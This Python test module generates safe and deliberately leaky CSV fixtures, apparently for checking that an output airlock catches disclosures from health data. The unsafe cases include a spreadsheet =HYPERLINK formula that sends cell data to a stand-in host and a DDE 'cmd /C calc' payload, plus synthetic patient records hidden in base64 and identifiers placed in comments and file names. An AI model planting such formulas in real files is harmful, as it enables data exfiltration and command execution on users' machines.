"""CSV in its dialects: comma, semicolon, tab; French decimals; UTF-8 with and without mark, Windows-1252, UTF-16."""

import base64
import csv
import io
import json
from collections.abc import Sequence

from tests.airlock.outputs import people
from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs.contents import LEAKS, SAFE, Content
from tests.airlock.outputs.numbers import french

DIALECTS = ((",", "utf-8"), (";", "cp1252"), ("\t", "utf-16"), (";", "utf-8-sig"), (",", "utf-8"))


def text(lines: Sequence[Sequence[object]], separator: str = ",") -> str:
    """The lines as CSV; with a semicolon numbers have decimal commas."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=separator, lineterminator="\r\n" if separator == ";" else "\n")
    for line in lines:
        writer.writerow([french(cell) for cell in line] if separator == ";" else line)
    return out.getvalue()


def encoded(content: Content, turn: int) -> bytes:
    separator, encoding = DIALECTS[turn % len(DIALECTS)]
    written = text(content.lines, separator)
    return (written.replace("\u202f", "\u00a0") if encoding == "cp1252" else written).encode(encoding)


def write(shelf: Shelf) -> None:
    for turn, (name, make) in enumerate(SAFE.items()):
        content = make(shelf.random(f"csv/{name}"))
        path = shelf.safe(f"csv/sortie_{turn:02d}.csv", content.way, content.title, content.population)
        path.write_bytes(encoded(content, turn))
    for turn, (name, make) in enumerate(LEAKS.items()):
        content = make(shelf.random(f"csv/{name}"))
        path = shelf.unsafe(
            f"csv/tableau_{turn:02d}.csv", content.way, content.where, content.title, content.population
        )
        path.write_bytes(encoded(content, turn))
    _disguises(shelf)


def _disguises(shelf: Shelf) -> None:
    rng = shelf.random("csv/disguises")
    table = SAFE["by_year"](rng)
    formula = [*table.lines, ["2024", '=HYPERLINK("http://collecte.example/?x="&B2;"total")', 0, 0, 0]]
    path = shelf.unsafe(
        "csv/activite.csv", "formula injection", "last row, column stays", table.title, table.population
    )
    path.write_text(text(formula), encoding="utf-8")

    command = [*table.lines, ["@SUM(1+1)*cmd|' /C calc'!A0", "", "", "", ""]]
    path = shelf.unsafe("csv/activite_bis.csv", "formula injection", "last row", table.title, table.population)
    path.write_text(text(command, "\t"), encoding="utf-8")

    hidden = base64.b64encode(json.dumps(people.patients(rng, 20)).encode()).decode()
    path = shelf.unsafe(
        "csv/parametres.csv", "rows in base64", "row checkpoint", "Paramètres du modèle", "2400 patients"
    )
    path.write_text(
        text([["parameter", "value"], ["alpha", 0.1], ["folds", 5], ["checkpoint", hidden]]), encoding="utf-8"
    )

    blob = [["patients"], *([json.dumps(p)] for p in people.patients(rng, 30))]
    path = shelf.unsafe("csv/resultats.csv", "one row a person as JSON in a cell", "whole column", "Résultats", "")
    path.write_text(text(blob), encoding="utf-8")

    given, surname = people.name(rng)
    header = f"# extraction pour {given} {surname}, né le 12/03/1941, NIR {people.nir(rng)}\n"
    path = shelf.unsafe("csv/bilan.csv", "identifiers in a comment", "first line", "Activité", table.population)
    path.write_text(header + text(table.lines), encoding="utf-8")

    quartile = SAFE["quartiles"](rng)
    path = shelf.unsafe(
        f"csv/{surname.replace(' ', '_').upper()}_{given}_durees.csv",
        "name of a person in the file's name",
        "file name",
        quartile.title,
        quartile.population,
    )
    path.write_text(text(quartile.lines), encoding="utf-8")

    split_counts = [["month", "age band", "sex", "stays"]]
    for month in range(1, 13):
        for band in ("18-39", "40-64", "65+"):
            split_counts += [[month, band, sex, rng.randint(25, 90)] for sex in "FM"]
    split_counts[20][3] = rng.randint(1, 4)
    path = shelf.unsafe(
        "csv/mensuel.csv", "small cell", "one of 72 cells, line 21", "Stays by month, age, sex", "stays of 2023"
    )
    path.write_text(text(split_counts), encoding="utf-8")

    steady = [split_counts[0], *([*line[:3], rng.randint(25, 90)] for line in split_counts[1:])]
    path = shelf.safe(
        "csv/mensuel_arrondi.csv", "months 1 to 9 beside counts", "Stays by month, age, sex", "stays of 2023"
    )
    path.write_text(text(steady), encoding="utf-8")
